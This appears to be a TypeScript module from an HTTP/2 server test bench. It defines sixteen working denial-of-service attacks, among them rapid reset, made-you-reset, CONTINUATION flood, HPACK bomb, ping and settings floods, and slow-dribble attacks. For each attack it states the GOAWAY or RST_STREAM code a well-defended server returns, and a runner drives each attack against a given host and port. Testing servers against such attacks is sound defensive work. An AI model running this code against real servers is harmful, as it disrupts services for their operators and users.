// Attacks on HTTP/2 by one client over plain TCP (prior knowledge): each known way to make a server work, hold or
// wait for nothing, until the connection ends.

import { once } from 'node:events';
import { connect } from 'node:net';
import { Writer } from '../../src/core/bytes/writer.js';
import {
  CLIENT_PREFACE,
  ErrorCode,
  encodeFrame,
  errorCodeName,
  FRAME_HEADER_BYTES,
  type Frame,
  FrameType,
  readU32,
} from '../../src/core/http2/frame.js';
import { HpackEncoder } from '../../src/core/http2/hpack/encode.js';
import type { Field } from '../../src/core/trace.js';

export interface Http2Attack {
  readonly name: string;
  readonly about: string;
  /** How it ends: GOAWAY of the connection or RST_STREAM of a stream, with this code. */
  readonly ends: { readonly by: 'GOAWAY' | 'RST_STREAM'; readonly code: number };
  /** What is sent at first, and then again and again with a growing number. */
  readonly first?: (tools: Tools) => Frame[];
  readonly next?: (tools: Tools, i: number) => Frame[];
  /** Octets instead of frames, behind what is sent at first. */
  readonly octets?: Uint8Array;
  /** Between two turns; 0: as fast as the socket takes it. */
  readonly everyMs?: number;
  /** Replies are left unread until the server has had time to give up. */
  readonly deaf?: boolean;
  /** The server's SETTINGS are not acknowledged. */
  readonly mute?: boolean;
}

interface Tools {
  request(streamId: number, path: string, end?: boolean, extra?: readonly Field[]): Frame;
}

const CALM = { by: 'GOAWAY', code: ErrorCode.ENHANCE_YOUR_CALM } as const;
const id = (i: number): number => 2 * i + 1;
const PING: Frame = { type: 'PING', ack: false, opaqueData: new Uint8Array(8) };
const NOTHING = new Uint8Array(0);
const many = (count: number, frame: Frame): Frame[] => Array.from({ length: count }, () => frame);
const SLOW = '/delay/60000';

export const HTTP2_ATTACKS: readonly Http2Attack[] = [
  {
    name: 'rapid-reset',
    about: 'CVE-2023-44487: requests that are reset at once',
    ends: CALM,
    next: ({ request }, i) => [request(id(i), SLOW), { type: 'RST_STREAM', streamId: id(i), errorCode: 8 }],
  },
  {
    name: 'made-you-reset',
    about: 'CVE-2025-8671: requests that the server is made to reset',
    ends: CALM,
    next: ({ request }, i) => [request(id(i), SLOW), { type: 'WINDOW_UPDATE', streamId: id(i), increment: 0 }],
  },
  {
    name: 'empty-headers',
    about: 'CVE-2019-9516: fields without a name',
    ends: CALM,
    next: ({ request }, i) => [request(id(i), '/', true, [['', '']])],
  },
  {
    name: 'continuation-flood',
    about: 'CVE-2024-27316: a field block that never ends',
    ends: CALM,
    first: ({ request }) => [{ ...(request(1, '/') as Frame & { type: 'HEADERS' }), endHeaders: false }],
    next: () =>
      many(8, { type: 'CONTINUATION', streamId: 1, endHeaders: false, fieldBlockFragment: new Uint8Array(1_000) }),
  },
  {
    name: 'hpack-bomb',
    about: 'CVE-2016-6581: a few octets that decode to megabytes',
    ends: CALM,
    next: ({ request }, i) => [
      request(
        id(i),
        '/',
        true,
        Array.from({ length: 1_000 }, (): Field => ['x-bomb', 'y'.repeat(1_900)]),
      ),
    ],
  },
  {
    name: 'settings-flood',
    about: 'CVE-2019-9515: SETTINGS to be acknowledged',
    ends: CALM,
    next: () => many(20, { type: 'SETTINGS', ack: false, settings: [] }),
  },
  { name: 'ping-flood', about: 'CVE-2019-9512: PING to be answered', ends: CALM, next: () => many(200, PING) },
  {
    name: 'unread-pings',
    about: 'CVE-2019-9512, CVE-2019-9517: replies that are not read',
    ends: CALM,
    next: (_tools, i) => many(i < 24 ? 500 : 0, PING),
    deaf: true,
  },
  {
    name: 'priority-flood',
    about: 'CVE-2019-9513: priorities that change without end',
    ends: CALM,
    next: () =>
      many(200, { type: 'PRIORITY', streamId: 1, priority: { exclusive: true, streamDependency: 0, weight: 1 } }),
  },
  {
    name: 'priority-update-flood',
    about: 'the same by RFC 9218',
    ends: CALM,
    next: () =>
      many(200, {
        type: 'PRIORITY_UPDATE',
        prioritizedStreamId: 1,
        priorityFieldValue: Uint8Array.of(0x75, 0x3d, 0x31),
      }),
  },
  {
    name: 'empty-frames',
    about: 'CVE-2019-9518: DATA without octets',
    ends: CALM,
    first: ({ request }) => [request(1, '/echo', false)],
    next: () => many(200, { type: 'DATA', streamId: 1, endStream: false, data: NOTHING }),
  },
  {
    name: 'data-dribble',
    about: 'CVE-2019-9511: a window of one octet at a time',
    ends: CALM,
    first: ({ request }) => [{ type: 'SETTINGS', ack: false, settings: [[4, 1]] }, request(1, '/bytes/100000000')],
    next: () => many(200, { type: 'WINDOW_UPDATE', streamId: 1, increment: 1 }),
  },
  {
    name: 'too-many-streams',
    about: 'RFC 9113 §5.1.2: more streams than there may be',
    ends: { by: 'RST_STREAM', code: ErrorCode.REFUSED_STREAM },
    next: ({ request }, i) => [request(id(i), SLOW)],
  },
  {
    name: 'slow-field-block',
    about: 'CVE-2007-6750: a field block, an octet at a time',
    ends: CALM,
    octets: Uint8Array.of(0, 4, 0, 1, 5, 0, 0, 0, 1, ...new Uint8Array(1_000).fill(0x82)),
    everyMs: 500,
  },
  {
    name: 'slow-content',
    about: 'CVE-2007-6750: content, an octet at a time',
    ends: { by: 'RST_STREAM', code: ErrorCode.CANCEL },
    first: ({ request }) => [request(1, '/echo', false)],
    next: () => [{ type: 'DATA', streamId: 1, endStream: false, data: Uint8Array.of(0x61) }],
    everyMs: 500,
  },
  {
    name: 'no-settings-ack',
    about: 'RFC 9113 §6.5.3: SETTINGS that are never acknowledged',
    ends: { by: 'GOAWAY', code: ErrorCode.SETTINGS_TIMEOUT },
    next: () => [],
    everyMs: 500,
    mute: true,
  },
];

function bytesOf(frames: readonly Frame[]): Uint8Array {
  const writer = new Writer();
  for (const frame of frames) encodeFrame(writer, frame);
  return writer.finish();
}

/** The first GOAWAY, or RST_STREAM with the code that is waited for, in what came. */
function findEnd(bytes: Buffer, attack: Http2Attack): string | undefined {
  for (let at = 0; at + FRAME_HEADER_BYTES <= bytes.length; ) {
    const length = bytes.readUIntBE(at, 3);
    const payload = at + FRAME_HEADER_BYTES;
    if (payload + length > bytes.length) return undefined;
    const typeCode = bytes[at + 3];
    if (typeCode === FrameType.GOAWAY) return `GOAWAY ${errorCodeName(readU32(bytes, payload + 4))}`;
    if (typeCode === FrameType.RST_STREAM && attack.ends.by === 'RST_STREAM') {
      return `RST_STREAM ${errorCodeName(readU32(bytes, payload))}`;
    }
    at = payload + length;
  }
  return undefined;
}

export const endOf = ({ ends }: Http2Attack): string => `${ends.by} ${errorCodeName(ends.code)}`;

/** One connection that is attacked until it ends. How it ended, and what that took. */
export async function attackOnce(
  attack: Http2Attack,
  target: { readonly host: string; readonly port: number },
): Promise<{ end: string; octets: number }> {
  const socket = connect(target);
  await once(socket, 'connect');
  let received = Buffer.alloc(0);
  let end: string | undefined;
  let closed = false;
  socket.on('data', (chunk: Buffer) => {
    if (end !== undefined) return;
    received = Buffer.concat([received, chunk]);
    end = findEnd(received, attack);
  });
  socket.on('error', () => undefined);
  socket.on('close', () => {
    closed = true;
  });
  const encoder = new HpackEncoder(4_096);
  const tools: Tools = {
    request: (streamId, path, endStream = true, extra = []) => ({
      type: 'HEADERS',
      streamId,
      endStream,
      endHeaders: true,
      fieldBlockFragment: encoder.encode([
        [':method', endStream ? 'GET' : 'POST'],
        [':scheme', 'http'],
        [':authority', 'wirebench.test'],
        [':path', path],
        ...extra,
      ]),
    }),
  };
  const hello: Frame[] = [{ type: 'SETTINGS', ack: false, settings: [] }];
  if (!attack.mute) hello.push({ type: 'SETTINGS', ack: true, settings: [] });
  socket.write(CLIENT_PREFACE);
  socket.write(bytesOf([...hello, ...(attack.first?.(tools) ?? [])]));
  if (attack.deaf) socket.pause();
  const startedMs = performance.now();
  for (let i = 0; end === undefined && !closed && performance.now() - startedMs < 60_000; i++) {
    const bytes = attack.octets?.subarray(i === 0 ? 0 : i + 9, i + 10) ?? bytesOf(attack.next!(tools, i));
    const goesOn = bytes.length === 0 || socket.write(bytes);
    if (attack.deaf && performance.now() - startedMs > 1_000) socket.resume();
    if (attack.everyMs !== undefined) await new Promise((resolve) => setTimeout(resolve, attack.everyMs));
    else if (!goesOn && !socket.isPaused())
      await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => undefined);
    // What is sent into a connection that has ended is answered by a reset, which would take the GOAWAY with it.
    else if (bytes.length > 1_000 || attack.deaf) await new Promise((resolve) => setTimeout(resolve, 1));
    else await new Promise((resolve) => setImmediate(resolve));
  }
  const octets = socket.bytesWritten;
  socket.destroy();
  return { end: end ?? 'closed without a word', octets };
}
